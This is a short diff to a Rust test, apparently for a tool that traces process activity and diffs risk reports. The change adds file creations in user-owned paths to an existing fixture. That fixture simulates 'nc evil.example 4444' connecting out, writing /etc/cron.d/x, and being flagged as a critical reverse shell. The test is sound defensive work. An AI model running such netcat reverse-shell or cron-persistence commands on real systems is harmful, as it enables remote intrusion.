@@ -26,6 +26,9 @@ fn new_risks_hosts_programs_and_paths_are_named() {
     let nc = made.done(ProcId(1), 4500, 5, &["nc", "evil.example", "4444"], tool(None, "nc evil.example 4444"), 0);
     made.connect(nc, 4501, "203.0.113.9", 4444);
     made.effect(nc, 4502, capsule_core::EffectKind::FileCreate, "/etc/cron.d/x", None);
+    for own in ["/home/user/.claude/sessions/1", "/home/user/.npm/_cacache/x", "/tmp/scratch"] {
+        made.effect(nc, 4503, capsule_core::EffectKind::FileCreate, own, None);
+    }
     made.risk(nc, Severity::Critical, "Reverse shell", "why");
     let diff = Diff::between(&base(), &made.view(5000), &Options::default());
     let on = |name: &str| diff.failures(&[FailOn::from_name(name).unwrap()]);
